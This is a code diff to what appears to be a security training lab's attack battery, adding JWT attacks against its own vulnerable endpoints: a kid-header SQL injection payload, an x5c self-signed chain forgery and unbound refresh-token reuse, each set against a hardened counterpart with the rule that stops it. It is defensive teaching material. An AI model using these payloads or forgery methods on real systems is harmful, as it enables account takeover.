@@ -26,6 +26,7 @@ from jwt.algorithms import ECAlgorithm
 
 from ..forge import encode_unsigned, hs256_with_key_bytes, tamper
 from ..users import PASSWORDS
+from ..x5c import self_made_chain
 
 WORDLIST = Path(__file__).resolve().parents[1] / "data" / "wordlist.txt"
 
@@ -59,7 +60,10 @@ class AttackResult:
     hardened: str  # e.g. "401 bad signature: ..."
     rule: str  # what stops it
     vulnerable_accepted: bool
+    # The hardened side held: it refused (a 401), or, where a genuine answer is right (the
+    # lab's refresh grant), it gave the attacker nothing that was not already theirs.
     hardened_refused: bool
+    held_as: str = "refused"  # how it held, for summary(): "refused", or e.g. "own token only"
 
 
 LOOPBACK = {"127.0.0.1", "localhost", "::1"}
@@ -220,6 +224,80 @@ def _alg_confusion(a: Attacker):
     return forged, forged
 
 
+#: WebGoat's final JWT challenge: the kid ends the key query and appends one of its own.
+KID_SQL_INJECTION = "x' UNION SELECT 'known-secret' --"
+
+
+def _kid_sql(a: Attacker):
+    forged = hs256_with_key_bytes(
+        {"typ": "at+jwt", "kid": KID_SQL_INJECTION}, a.claims(**ADMIN), b"known-secret"
+    )
+    return forged, forged
+
+
+def _x5c(a: Attacker):
+    claims = a.claims(**ADMIN)
+    # The attacker's own CA and leaf, valid around lab time (read off a genuine token's iat).
+    leaf_key, chain = self_made_chain(claims["iat"])
+    forged = jwt.encode(
+        claims,
+        leaf_key,
+        algorithm="ES256",
+        headers={"typ": "at+jwt", "kid": "es256-1", "x5c": chain},
+    )
+    return forged, forged
+
+
+UNBOUND_REFRESH = "/vulnerable/unbound-refresh/token"
+
+
+def _refresh_token_of(a: Attacker, user: str) -> str:
+    """A refresh token of the lab's, for ``user``: a login at the unbound-refresh endpoint."""
+    answer = a.client().post(UNBOUND_REFRESH, json={"username": user, "password": PASSWORDS[user]})
+    answer.raise_for_status()
+    return answer.json()["refresh_token"]
+
+
+def _redeemed(a: Attacker, response) -> tuple[str, str | None]:
+    """What a token endpoint's answer gave: one line, and the subject of the new token."""
+    if response.status_code != 200:
+        return _verdict(response.status_code, response.json()), None
+    claims = a.claims(response.json()["access_token"])
+    return f"200 a token: sub {claims.get('sub')!r}, roles {claims.get('roles')}", claims.get("sub")
+
+
+def _unbound_refresh(a: Attacker) -> AttackResult:
+    # Alice's access token, leaked (a log, a proxy). It lives 1 s, so it is expired once the lab
+    # clock is 31 s on (leeway 30 s). The battery never moves the clock, which other cells
+    # share: the vulnerable endpoint takes the token expired or not, by design.
+    leaked = a.token("alice", lifetime=1)
+    redeem = {"grant_type": "refresh_token", "access_token": leaked}
+    v = a.client().post(
+        UNBOUND_REFRESH, json={**redeem, "refresh_token": _refresh_token_of(a, "bob")}
+    )
+    # Hardened: the same request at the lab's own token endpoint, with another refresh token of
+    # bob's. It answers 200, rightly: the question is for whom.
+    h = a.client().post(
+        "/oauth/token", json={**redeem, "refresh_token": _refresh_token_of(a, "bob")}
+    )
+    v_line, v_sub = _redeemed(a, v)
+    if v_sub is not None:  # and the lab's own API takes the new token: it is genuine
+        v_line = a.try_token("/api/me", v.json()["access_token"])
+    h_line, h_sub = _redeemed(a, h)
+    if h_sub == "bob":
+        h_line += " (the refresh token's owner, not the access token's subject)"
+    return AttackResult(
+        "refresh token not bound",
+        v_line,
+        h_line,
+        "RFC 6749 sections 6 and 10.4: a refresh token is bound to the client and grant it was "
+        "issued for; the new token is for its owner, whatever token comes along",
+        v_sub == "alice" and v_line.startswith("accepted"),
+        h.status_code in (400, 401) or (h.status_code == 200 and h_sub == "bob"),
+        "refused" if h.status_code != 200 else "own token only",
+    )
+
+
 def _predictable_session(a: Attacker) -> AttackResult:
     victim = a.client()
     victim.post(
@@ -275,7 +353,7 @@ def _fixation(a: Attacker) -> AttackResult:
     )
 
 
-ATTACKS: list[Callable[[Attacker], AttackResult]] = [  # JwtAttack instances first, then sessions
+ATTACKS: list[Callable[[Attacker], AttackResult]] = [  # JwtAttack instances first, then the rest
     JwtAttack(
         "signature not verified",
         "RFC 7519 section 7.2: validate the JWS before any claim",
@@ -320,6 +398,21 @@ ATTACKS: list[Callable[[Attacker], AttackResult]] = [  # JwtAttack instances fir
         "/vulnerable/alg-confusion/me",
         _alg_confusion,
     ),
+    JwtAttack(
+        "kid SQL injection",
+        "RFC 8725 section 3.10: a kid must not open an SQL injection; OWASP SQL Injection "
+        "Prevention Cheat Sheet, defense 1: parameterised queries (and only kids of your own set)",
+        "/vulnerable/kid-sql/me",
+        _kid_sql,
+    ),
+    JwtAttack(
+        "certificate chain in x5c",
+        "RFC 7515 section 4.1.6 and RFC 5280 section 6: an x5c chain is validated up to a trust "
+        "anchor the verifier already holds; RFC 8725 section 3.10: keys come from its own set",
+        "/vulnerable/x5c/me",
+        _x5c,
+    ),
+    _unbound_refresh,  # token-shaped, but a grant: not a JwtAttack, so not in verifier_battery
     _predictable_session,
     _fixation,
 ]
@@ -395,6 +488,6 @@ def summary(results: list[AttackResult], against: str = "vulnerable endpoint") -
     rows = [
         f"{r.attack:<{width}}  {fell(r):<{left}} {held}"
         for r in results
-        for held in ["refused (holds)" if r.hardened_refused else "ACCEPTED"]
+        for held in [f"{r.held_as} (holds)" if r.hardened_refused else "ACCEPTED"]
     ]
     return "\n".join([head] + rows)
